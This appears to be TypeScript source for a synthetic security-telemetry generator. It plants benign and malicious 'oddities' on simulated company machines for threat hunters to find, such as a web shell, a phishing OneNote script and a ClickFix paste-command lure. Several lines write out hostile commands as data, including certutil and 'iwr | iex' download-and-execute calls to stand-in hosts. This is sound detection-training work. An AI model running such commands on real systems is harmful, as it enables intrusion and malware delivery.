// Odd events that are no part of the stories: near misses, shadow IT and clumsy administration, which hunts stumble over.

import { office, publicIp, website } from '../company/network.js';
import { foreignProgram, hashesOf } from '../company/software.js';
import { Machine } from '../machines/machine.js';
import { profileOf } from '../machines/paths.js';
import { type Moment, minute, second } from '../timeline.js';
import type { PlannedAction, World } from '../world.js';
import { mailbox } from '../writers/mail-writer.js';
import { defenderDeed } from './cloud-deeds.js';
import { chromeOnWindows } from './user-agents.js';

/** Planned in office time; each is over within its hour. */
export function planOddities(world: World): PlannedAction[] {
  const { timeline } = world;
  const planned: readonly (readonly [
    days: number,
    hours: number,
    minutes: number,
    run: (world: World, at: Moment) => void,
  ])[] = [
    [9, 13, 10, useTor],
    [7, 13, 5, shareWithTheWorld],
    [6, 9, 50, openNotebook],
    [5, 23, 5, probeTheShop],
    [4, 10, 50, runMacro],
    [4, 15, 50, testTheSpooler],
    [3, 11, 0, administerClumsily],
    [3, 13, 50, pasteCommand],
    [2, 9, 50, helpByTeamViewer],
    [2, 14, 0, tidyThePortal],
  ];
  return planned.map(([days, hours, minutes, run]) => ({
    at: timeline.daysAgo(days, hours, minutes),
    run: (at: Moment) => run(world, at),
  }));
}

/** A desk of a department if someone is working there; oddities that need a person are left out otherwise. */
function deskOf(world: World, department: string, index: number) {
  const { person, device } = world.company.desk(department, index);
  const machine = world.machine(device);
  return machine.session ? { machine, session: machine.session, person } : undefined;
}

function useTor(world: World, at: Moment): void {
  const desk = deskOf(world, 'Engineering', 5);
  if (!desk) return;
  const tor = foreignProgram('tor.exe', '%USERPROFILE%\\Desktop\\Tor Browser\\Browser\\TorBrowser\\Tor', {
    version: '0.4.8.10',
  });
  const process = desk.machine.start(at, { parent: desk.session.shell, program: tor });
  for (let relay = 0; relay < 3; relay++)
    desk.machine.connect(at + (relay + 2) * second, process, {
      to: { ip: publicIp(`relay ${relay}`), port: 9001, url: '' },
    });
}

function shareWithTheWorld(world: World, at: Moment): void {
  const desk = deskOf(world, 'Sales', 3);
  if (!desk) return;
  desk.machine.connect(at, desk.machine.service('ntoskrnl.exe'), {
    to: { ip: publicIp('files.hollin-university.example'), port: 445, url: 'files.hollin-university.example' },
  });
}

/** A OneNote attachment whose script the antivirus stops. */
function openNotebook(world: World, at: Moment): void {
  const desk = deskOf(world, 'Human Resources', 0);
  if (!desk) return;
  const { machine, session, person } = desk;
  const content = hashesOf('the notebook with a script');
  const name = 'Application_documents.one';
  const message = world.mail.deliver(at, {
    from: { address: 'm.halloway@jobs-mailer.example', name: 'M. Halloway', ip: '192.0.2.33' },
    to: mailbox(person),
    subject: 'Application as technician',
    direction: 'Inbound',
    attachments: [{ name, type: 'one;onenote', hashes: content, size: 214_016 }],
  });
  const outlook = session.open.get('OUTLOOK.EXE') ?? session.shell;
  const folder = `${profileOf(person.account)}\\Downloads`;
  machine.file(at + 2 * minute, outlook, { folder, name, content, size: 214_016 });
  const notebook = machine.start(at + 2 * minute + 4 * second, {
    parent: session.shell,
    program: 'ONENOTE.EXE',
    commandLine: `"ONENOTE.EXE" "${folder}\\${name}"`,
  });
  const script = machine.start(at + 3 * minute, {
    parent: notebook,
    program: 'mshta.exe',
    commandLine: `mshta.exe "${profileOf(person.account)}\\AppData\\Local\\Temp\\open.hta" <script>`,
  });
  machine.load(at + 3 * minute + second, script, 'mshtml.dll');
  machine.start(at + 3 * minute + 2 * second, {
    parent: script,
    program: 'cmd.exe',
    commandLine: 'cmd.exe /c start /MIN wscript.exe %TEMP%\\view.jse',
  });
  machine.file(at + 3 * minute + 3 * second, script, {
    folder: `${profileOf(person.account)}\\AppData\\Local\\Temp`,
    name: 'view.jse',
  });
  machine.file(at + 3 * minute + 4 * second, script, {
    folder: `${profileOf(person.account)}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup`,
    name: 'open.hta',
  });
  machine.event(
    at + 3 * minute + 5 * second,
    'AmsiScriptDetection',
    script,
    {},
    { Description: 'A script tried to start another', ThreatName: 'Trojan:JS/Obfuse' },
  );
  world.alerts.raise(at + 5 * minute, {
    title: "'Obfuse' malware was prevented",
    category: 'Malware',
    severity: 'Informational',
    source: 'Antivirus',
    threatFamily: 'Obfuse',
    device: machine.device,
    account: person.account,
    process: script,
    message,
  });
}

/** Someone outside finds an upload form of the web shop; the shell lives for a minute. */
function probeTheShop(world: World, at: Moment): void {
  const server = world.machine(world.company.server('web-server'));
  const worker = server.service('w3wp.exe', 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "QuillfenShop" -v "v4.0"');
  const stranger = '192.0.2.118';
  server.connect(at, server.service('ntoskrnl.exe'), {
    action: 'InboundConnectionAccepted',
    to: { ip: stranger, port: 41_022, url: '' },
    localPort: 443,
  });
  server.file(at + second, worker, { folder: 'C:\\inetpub\\wwwroot\\shop\\uploads', name: 'thumb.aspx', size: 1_402 });
  const shell = server.start(at + 8 * second, {
    parent: worker,
    program: 'cmd.exe',
    commandLine: 'cmd.exe /c whoami & systeminfo',
  });
  server.start(at + 8 * second, { parent: shell, program: 'whoami.exe', commandLine: 'whoami' });
  server.start(at + 9 * second, { parent: shell, program: 'systeminfo.exe', commandLine: 'systeminfo' });
  server.start(at + 40 * second, {
    parent: worker,
    program: 'cmd.exe',
    commandLine: `cmd.exe /c certutil -urlcache -f http://${stranger}/n.exe %temp%\\n.exe`,
  });
  world.alerts.raise(at + 2 * minute, {
    title: 'Possible target of Log4j exploitation',
    category: 'InitialAccess',
    severity: 'Low',
    techniques: ['Exploit Public-Facing Application (T1190)'],
    device: server.device,
    ip: stranger,
  });
  world.alerts.raise(at + 3 * minute, {
    title: 'Suspicious process executed by a network service',
    category: 'Execution',
    severity: 'Medium',
    techniques: ['Web Shell (T1505.003)'],
    device: server.device,
    process: shell,
  });
}

/** A spreadsheet of the controller's own asks Windows for its disks. */
function runMacro(world: World, at: Moment): void {
  const desk = deskOf(world, 'Finance', 3);
  if (!desk) return;
  const { machine, session } = desk;
  const excel = machine.start(at, {
    parent: session.shell,
    program: 'EXCEL.EXE',
    commandLine: '"EXCEL.EXE" "P:\\Finance\\Inventory macro.xlsm"',
  });
  machine.load(at + second, excel, 'VBE7.DLL');
  machine.start(at + 5 * second, {
    parent: excel,
    program: 'WMIC.exe',
    commandLine: 'wmic logicaldisk get size,freespace,caption',
  });
  const browser = session.open.get('msedge.exe') ?? session.shell;
  machine.start(at + minute, {
    parent: browser,
    program: 'rundll32.exe',
    commandLine: 'rundll32.exe C:\\Windows\\System32\\printui.dll,PrintUIEntry /p /n "QF-PRINTER-2F"',
  });
}

/** The security analyst tries whether the print server is patched; it is not quite. */
function testTheSpooler(world: World, at: Moment): void {
  const server = world.machine(world.company.server('print-server'));
  const spooler = server.service('spoolsv.exe');
  const folder = 'C:\\Windows\\System32\\spool\\drivers\\x64\\3';
  const driver = foreignProgram('qftest.dll', folder, { originalName: 'qftest.dll' });
  server.file(at, spooler, { folder, name: driver.fileName, content: driver, size: driver.size });
  server.load(at + 2 * second, spooler, { ...driver, folder: `${folder}\\Old\\1` });
  server.start(at + 4 * second, { parent: spooler, program: 'whoami.exe', commandLine: 'whoami' });
  const runner = server.start(at + 6 * second, {
    parent: spooler,
    program: 'rundll32.exe',
    commandLine: 'rundll32.exe',
  });
  server.start(at + 9 * second, { parent: runner, program: 'cmd.exe', commandLine: 'cmd.exe /c hostname' });
}

function administerClumsily(world: World, at: Moment): void {
  const account = world.company.administrators[2] ?? world.company.services.administrator;
  const jump = world.machine(world.company.server('jump-server'));
  const scheduler = jump.service('svchost.exe', 'svchost.exe -k netsvcs -p -s Schedule');
  const rights = { account, integrity: 'High' as const, elevation: 'TokenElevationTypeFull' as const };
  const shell = jump.start(at, {
    parent: scheduler,
    program: 'powershell.exe',
    commandLine: 'powershell.exe -NoProfile',
    ...rights,
  });
  const fetch = jump.start(at + second, {
    parent: shell,
    program: 'powershell.exe',
    commandLine:
      'powershell.exe Invoke-WebRequest -Uri https://downloads.toolhaven.example/agent.msi -OutFile C:\\Install\\agent.msi',
  });
  jump.connect(at + 2 * second, fetch, { to: website('downloads.toolhaven.example') });
  jump.start(at + 20 * second, {
    parent: shell,
    program: 'cmd.exe',
    commandLine: 'cmd.exe /c C:\\Tools\\sync.exe -user svc_scan -password * -target QF-SQL-01',
  });
  jump.event(
    at + 30 * second,
    'UserAccountAddedToLocalGroup',
    jump.service('lsass.exe'),
    { AccountName: account.name, AccountSid: account.sid },
    { GroupName: 'Administrators', GroupDomainName: 'Builtin', GroupSid: 'S-1-5-32-544' },
  );
  const linux = world.machine(world.company.server('linux-server'));
  linux.start(at + minute, {
    parent: linux.service('cron'),
    program: 'sudo',
    commandLine: 'sudo usermod -aG sudo deploy',
  });
}

/** A page asks to paste a command into the Run dialog to prove that one is human. */
function pasteCommand(world: World, at: Moment): void {
  const desk = deskOf(world, 'Sales', 2);
  if (!desk) return;
  const { machine, session, person } = desk;
  const browser = session.open.get('msedge.exe') ?? session.shell;
  const url = 'https://verify-visitor.example/human';
  const commandLine = 'powershell.exe -w hidden -c "iwr https://verify-visitor.example/p | iex"';
  machine.connect(at, browser, { to: website('verify-visitor.example') });
  machine.event(at + 20 * second, 'GetClipboardData', session.shell);
  machine.registry(at + 22 * second, session.shell, {
    key: `HKEY_CURRENT_USER\\${person.account.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU`,
    name: 'a',
    data: `${commandLine}\\1`,
  });
  const shell = machine.start(at + 22 * second, { parent: session.shell, program: 'powershell.exe', commandLine });
  machine.event(
    at + 24 * second,
    'ExploitGuardNetworkProtectionBlocked',
    shell,
    { RemoteUrl: 'https://verify-visitor.example/p' },
    { ResponseCategory: 'CmdCtrl', DisplayName: url, IsAudit: false, Uri: url },
  );
  machine.event(
    at + 25 * second,
    'AntivirusDetection',
    machine.service('MsMpEng.exe'),
    {
      ...Machine.fileColumns(shell.program, person.account),
      FileName: 'p.ps1',
      ...upper(hashesOf('the pasted script')),
    },
    {
      ThreatName: 'Trojan:PowerShell/ClickFix',
      WasRemediated: true,
      Action: 'Quarantine',
      ReportSource: 'Windows Defender',
    },
  );
  world.alerts.raise(at + 2 * minute, {
    title: 'Suspicious script launched',
    category: 'Execution',
    severity: 'Medium',
    techniques: ['User Execution (T1204)'],
    device: machine.device,
    account: person.account,
    process: shell,
    url,
  });
}

function upper({ md5, sha1, sha256 }: ReturnType<typeof hashesOf>) {
  return { MD5: md5, SHA1: sha1, SHA256: sha256 };
}

function helpByTeamViewer(world: World, at: Moment): void {
  const desk = deskOf(world, 'Quality', 0);
  if (!desk) return;
  const viewer = foreignProgram('TeamViewer.exe', 'C:\\Program Files\\TeamViewer', {
    company: 'TeamViewer Germany GmbH',
    product: 'TeamViewer',
    version: '15.51.6.0',
    originalName: 'TeamViewer.exe',
    signer: 'TeamViewer Germany GmbH',
  });
  const process = desk.machine.start(at, { parent: desk.session.shell, program: viewer });
  desk.machine.connect(at + 2 * second, process, { to: website('router7.teamviewer.com') });
}

/** A sensor is set up anew and a retired laptop is to leave the portal. */
function tidyThePortal(world: World, at: Moment): void {
  const account = world.company.administrators[0] ?? world.company.services.administrator;
  const who = { account, place: office, userAgent: chromeOnWindows };
  world.cloud.activity(at, {
    ...defenderDeed('SensorDeleted', {
      ResultDescription: world.company.server('domain-controller', 1).name,
      Workload: 'MicrosoftDefenderForIdentity',
    }),
    ...who,
  });
  world.cloud.activity(at + 9 * minute, {
    ...defenderDeed('DownloadOffboardingPkg', { DeviceName: 'qf-lt-retired' }),
    ...who,
  });
}
